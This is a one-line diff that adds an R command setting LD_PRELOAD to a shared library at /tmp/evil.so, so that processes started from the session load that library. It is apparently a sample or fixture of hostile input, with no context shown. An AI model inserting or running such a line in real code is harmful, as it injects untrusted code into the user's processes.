@@ -1,0 +1,1 @@
+Sys.setenv(LD_PRELOAD = "/tmp/evil.so")
